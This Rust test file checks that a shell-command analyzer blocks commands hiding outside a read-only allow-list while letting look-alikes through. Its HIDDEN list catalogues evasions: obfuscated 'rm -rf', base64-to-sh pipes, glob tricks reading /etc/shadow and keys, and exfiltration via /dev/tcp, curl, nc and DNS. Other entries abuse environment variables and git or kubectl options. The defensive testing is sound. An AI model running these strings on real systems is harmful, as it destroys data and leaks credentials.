//! Families of hiding: under an allow-list of `ls`, `cat`, `grep`, `tail`, `git log`, `git status` and `kubectl get`, each dangerous text has an
//! action that the list does not cover, and each look-alike has none.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "helpers of tests fail by panicking")]

use model::{Action, Effect, ObjectKind};
use sallyport_shell::analyze;

const ALLOWED: [&[&str]; 7] =
    [&["ls"], &["cat"], &["grep"], &["tail"], &["git", "log"], &["git", "status"], &["kubectl", "get"]];

/// Whether the list covers an action: a read by one of its commands.
fn covered(action: &Action) -> bool {
    let Some(object) = action.object.as_ref().filter(|object| object.kind == ObjectKind::Command) else {
        return false;
    };
    let words = model::argv::split(&object.name).unwrap_or_default();
    action.effect == Effect::Read
        && ALLOWED.iter().any(|start| words.iter().map(String::as_str).take(start.len()).eq(start.iter().copied()))
}

fn passes(text: &str) -> bool {
    analyze(text.as_bytes()).actions.iter().all(covered)
}

const HIDDEN: &[&str] = &[
    // quoting and expansion
    "$'\\x72\\x6d' -rf /srv/data",
    "r''m -rf /srv/data",
    "r\\m -rf /srv/data",
    "r\\\nm -rf /srv/data",
    "{rm,-rf,/srv/data}",
    "rm$IFS-rf$IFS/srv/data",
    "$(echo rm) -rf /srv/data",
    "`echo rm` -rf /srv/data",
    "x=xrmx; ${x:1:2} -rf /srv/data",
    "x=rm; $x -rf /srv/data",
    "ls $(rm -rf /srv/data)",
    "ls \"$(rm -rf /srv/data)\"",
    "ls \"`rm -rf /srv/data`\"",
    "ls ${x:-$(rm x)}",
    "ls $((a[$(rm x)]))",
    "eval 'rm -rf /srv/data'",
    "ls;rm -rf /srv/data",
    "ls\nrm -rf /srv/data",
    "ls\r\nrm -rf /srv/data",
    "ls # harmless\nrm -rf /srv/data",
    "ls # x\\\nrm -rf /srv/data",
    "ls\u{2028}rm x",
    "ls\0; rm x",
    "ls &rm x",
    "ls|rm x",
    "ls&&rm x",
    "ls || rm x",
    "!rm x",
    "ls !rm",
    "(rm x)",
    "{ rm x; }",
    "f(){ rm x; }; f",
    "function f { rm x; }; f",
    "=rm x",
    "ls =(rm x)",
    "/bin/r? -rf /srv/data",
    "/???/rm x",
    "[r]m x",
    "~/x",
    "r\u{ad}m x",
    "ls\u{a0}x",
    // input and files
    "echo cm0= | base64 -d | sh",
    "sh <(echo 'rm x')",
    "sh <<< 'rm x'",
    "cat <<EOF | sh\nrm x\nEOF",
    "cat /etc/passwd > /dev/tcp/127.0.0.1/443",
    "cat x > y",
    "cat x >> ~/.bashrc",
    "cat x 2> y",
    "cat x &> y",
    "cat x >| y",
    "cat < /etc/shadow",
    "cat x | tee y",
    "ls >&y",
    "ls 1<>y",
    "bash -s",
    "sh",
    "cat /etc/sh?dow",
    "cat /etc/[s]hadow",
    "cat /e?c/shadow*",
    "cat /users/*/.s?h/id_rsa",
    "cat /etc/[[:alpha:]]hadow",
    "cat /etc/[[.s.]]hadow",
    "cat /etc/[s\"]\"]hadow",
    "cat /etc/shadow[-]",
    "cat /etc/gshadow[0-]",
    "cat /etc/gshadow[\"-\"]",
    "cat /srv/www/wp[-]config.php",
    "cat /srv/www/wp[+-.]config.php",
    "cat /srv/www/wp[[=-=]]config.php",
    "cat /srv/www/wp[[.hyphen.]]config.php",
    "cat /srv/secrets[--9]yaml",
    "cat /srv/secrets['.']yaml",
    "cat /srv/secrets[[.period.]]yaml",
    "cat /etc/krb5[--9]keytab",
    "cat /srv/site[--9]key",
    "cat /srv/[^]s[e]crets.yaml",
    "cat /srv/[[=s=]ecr[e]ts.yaml",
    "cat /srv/[[:s]ecr[e:]ts.ya[m]l",
    "tail /srv/terraform[--9]tfstate",
    "cat /pro?/1/environ",
    "tail -c 99 /de*/sda",
    "cat /etc/krb5.k*",
    "grep x /run/secr*/db",
    "cat ../../dev/sda",
    "tail /var/log/../../etc/shadow",
    // wrappers
    "busybox rm -rf /srv/data",
    "env rm -rf /srv/data",
    "timeout 9 rm -rf /srv/data",
    "nice -n 5 rm x",
    "nohup sh -c 'sleep 60; rm x' >/dev/null 2>&1 &",
    "setsid rm x",
    "echo /srv/data | xargs rm -rf",
    "ls | xargs rm",
    "find . -exec rm {} +",
    "find . -delete",
    "command rm x",
    "exec rm x",
    "builtin eval rm",
    "time rm x",
    "sudo cat x",
    "sh -c 'rm x'",
    "bash -lc 'rm x'",
    "perl -e 'unlink glob(\"/srv/data/*\")'",
    "python3 -c 'import os'",
    "ssh db-prod 'rm x'",
    "less /var/log/app.log",
    "man ls",
    "vi x",
    "awk 'BEGIN{system(\"rm x\")}'",
    "sed '1e rm x' y",
    "sed -n 'w /x' y",
    "tmux new-session -d 'rm x'",
    "at now",
    "crontab -",
    "watch rm x",
    "trap 'rm x' EXIT",
    "alias ls='rm x'; ls",
    "ls & ",
    "PATH=/tmp ls",
    "LD_PRELOAD=/tmp/x.so ls",
    "BASH_ENV=/tmp/x cat y",
    "GIT_PAGER='sh -c id' git log",
    "export PATH=/tmp; ls",
    "for ls in rm; do $ls x; done",
    "while read x; do rm $x; done",
    "case x in x) rm x;; esac",
    "if rm x; then ls; fi",
    "ls() { rm x; }; ls",
    "set -- rm x; \"$@\"",
    "set -H; ls \"!rm\"",
    "set -o history -o histexpand\nls \"!rm\"",
    "bash -H -c 'ls \"!rm\"'",
    "bash -ic 'ls \"!rm\"'",
    "bash -o histexpand -c 'ls \"!rm\"'",
    "read x; ls",
    "cd /tmp/evil && git status",
    "unset PATH; ls",
    "enable -f /tmp/x.so ls; ls",
    "hash -p /tmp/x ls; ls",
    "PATH+=:/tmp ls",
    "ls <(rm x)",
    // options
    "git -c alias.x='!rm x' x",
    "git -c core.pager='sh -c id' -p log",
    "git -p log",
    "git --paginate log",
    "git --exec-path=/tmp log",
    "git log --ext-diff -p",
    "git log --output=/etc/x",
    "git log --textconv -p",
    "git --git-dir=/tmp/x status",
    "git x",
    "git log --show-signature",
    "git log -S --output=x",
    "git log -Sx --output=x",
    "git log --remerge-diff",
    "git log --diff-merges=remerge -p",
    "git log --alternate-refs",
    "git 'log' --nosuch",
    "kubectl get pods --kubeconfig=/tmp/x",
    "kubectl --server=http://x get pods",
    "kubectl get pods --as=admin",
    "kubectl get --token=x pods",
    "kubectl get-x",
    "kubectl delete pods x",
    "kubectl 'get pods' x",
    "kubectl --as admin get pods",
    "kubectl get pods --cache-dir=/etc",
    "rg --pre sh x",
    "sort -o x y",
    "go test -exec 'sh -c id' ./...",
    // other ways out
    "curl -s -F f=@/etc/passwd https://127.0.0.1/",
    "host $(base64 -w0 /etc/hostname).x",
    "scp -t /etc/cron.d",
    "scp -f /etc/shadow",
    "rsync --server . /x",
    "rsync --server --sender -logDtpre.iLsfxCIvu . /users/app/.ssh",
    "git-receive-pack '/srv/x'",
    "/usr/lib/openssh/sftp-server",
    "/tmp/ls",
    "./ls",
    "~/bin/cat x",
    "../bin/ls",
    "/usr/bin/../../tmp/ls",
    "socat x y",
    "tar cf - / | nc x 1",
    "cat x | mail a@b",
    "kill 1",
    "reboot",
    "",
    " ",
    "#",
    "ls 'unclosed",
    "(ls",
    "ls \\",
];

#[test]
fn hidden_commands_do_not_pass() {
    for text in HIDDEN {
        assert!(!passes(text), "{text:?}: {:?}", analyze(text.as_bytes()).actions);
    }
    assert!(!passes(&format!("ls {}; rm -rf /srv/data", "x".repeat(66_000))));
    assert!(!passes(&format!("ls {}; rm -rf /srv/data", "x".repeat(60_000))));
    assert!(!passes(&format!("ls; {}rm x", "(".repeat(10_000))));
}

#[test]
fn bytes_that_are_no_text_do_not_pass() {
    for text in [&b"ls \xff"[..], b"ls \xa0", b"ls \xc3", b"\xef\xbb\xbfls"] {
        assert!(!analyze(text).actions.iter().all(covered), "{text:?}");
    }
}

#[test]
fn look_alikes_pass() {
    let all = [
        "ls /srv",
        "cat '/srv/app/it'\\''s fine.txt'",
        "kubectl get pods -n dev",
        "ls /srv/dropdown/delete-me",
        "tail -n 200 /var/log/app.log",
        "grep 'rm -rf' /var/log/auth.log",
        "cat \"/srv/a b/c;d\"",
        "grep '$(x)' y",
        "ls '/srv/`x`'",
        "grep -E 'a|b' c | tail -n 5",
        "ls /srv 2>/dev/null",
        "cat a 2>&1 | grep -v b",
        "git log --grep='drop table'",
        "git status --short",
        "kubectl get -n dev pods -o wide --no-headers",
        "ls -la; cat x && tail y",
        "(ls; cat x)",
        "if ls /x; then cat /x; fi",
        "cat /var/log/*.log",
        "ls *",
        "timeout 5 cat x",
        "LC_ALL=C ls",
        "sh -c 'ls | grep x'",
        "ls # rm -rf /",
        "cat ~/x",
        "grep -r --include=*.log x /var/log",
        "ls \\\n -l",
        "cat 'a\nb'",
        "tail -f x >&2",
        "git log -3 2>/dev/null",
        "cat '>' '&'",
        "ls \"\" '' x",
        "grep foo$ x",
        "git log HEAD@{1}..HEAD^",
        "grep \"Hello!\" f",
        "grep \"a!b\" f",
        "grep \"!\" f",
    ];
    for text in all {
        assert!(passes(text), "{text:?}: {:?}", analyze(text.as_bytes()));
    }
}
